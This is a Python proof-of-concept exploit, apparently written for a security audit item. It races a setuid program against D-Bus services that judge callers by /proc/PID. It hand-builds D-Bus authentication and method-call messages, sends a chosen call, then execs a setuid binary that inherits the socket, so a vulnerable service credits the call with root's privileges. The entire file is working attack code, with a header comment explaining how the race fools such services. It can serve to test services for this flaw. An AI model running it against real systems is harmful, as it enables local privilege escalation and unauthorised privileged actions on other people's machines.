#!/usr/bin/env python3
# The setuid race against a bus service that judges its callers by /proc/PID (issue 13, item 1):
# connect to the bus as whoever runs this, send one method call, then at once execve() a setuid
# program that inherits the bus socket. A service that reads the caller's PID's capabilities
# after the call arrived sees the setuid program's (full, as its euid is 0); one that asks the bus
# for the uid recorded when the connection authenticated sees ours.
#
#   setuid-race.py SOCKET SETUID_PROGRAM DEST PATH INTERFACE MEMBER SIGNATURE ARG...
#
# The program is exec'd with the single argument "0.5" (a setuid copy of sleep: it holds the
# socket open for half a second, long enough for the service to look at it). Signatures: any string of s, o and i. D-Bus is written by hand (no
# library is needed): little-endian, the header fields path, interface, member, destination,
# signature.
import os
import socket
import struct
import sys


class Writer:
    def __init__(self):
        self.buf = bytearray()

    def align(self, n):
        while len(self.buf) % n:
            self.buf.append(0)

    def byte(self, v):
        self.buf.append(v)

    def u32(self, v):
        self.align(4)
        self.buf += struct.pack('<I', v)

    def i32(self, v):
        self.align(4)
        self.buf += struct.pack('<i', v)

    def string(self, v):
        data = v.encode()
        self.u32(len(data))
        self.buf += data + b'\0'

    def signature(self, v):
        data = v.encode()
        self.byte(len(data))
        self.buf += data + b'\0'

    def value(self, code, v):
        if code in 'so':
            self.string(v)
        elif code == 'g':
            self.signature(v)
        elif code == 'i':
            self.i32(int(v))
        else:
            raise ValueError(code)


def message(serial, dest, path, iface, member, sig, args):
    body = Writer()
    for code, arg in zip(sig, args):
        body.value(code, arg)
    fields = [(1, 'o', path), (2, 's', iface), (3, 's', member), (6, 's', dest)]
    if sig:
        fields.append((8, 'g', sig))
    head = Writer()
    head.buf += b'l' + bytes([1, 0, 1])  # little-endian, METHOD_CALL, no flags, version 1
    head.u32(len(body.buf))
    head.u32(serial)
    array = Writer()
    # the fields array starts at offset 16 of the message: keep the padding right by writing it
    # into a writer that is already 16 bytes long
    array.buf += bytes(16)
    for code, t, v in fields:
        array.align(8)
        array.byte(code)
        array.signature(t)
        array.value(t, v)
    head.u32(len(array.buf) - 16)
    head.buf += array.buf[16:]
    head.align(8)
    return bytes(head.buf) + bytes(body.buf)


def main():
    sock_path, program, dest, path, iface, member, sig = sys.argv[1:8]
    args = sys.argv[8:]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sock_path)
    s.sendall(b'\0AUTH EXTERNAL ' + str(os.getuid()).encode().hex().encode() + b'\r\n')
    reply = b''
    while not reply.endswith(b'\r\n'):
        reply += s.recv(1)
    if not reply.startswith(b'OK'):
        sys.exit('authentication refused: %r' % reply)
    s.sendall(b'BEGIN\r\n')
    s.sendall(message(1, 'org.freedesktop.DBus', '/org/freedesktop/DBus', 'org.freedesktop.DBus', 'Hello', '', []))
    s.sendall(message(2, dest, path, iface, member, sig, args))
    os.set_inheritable(s.fileno(), True)
    os.execv(program, [program, '0.5'])


main()
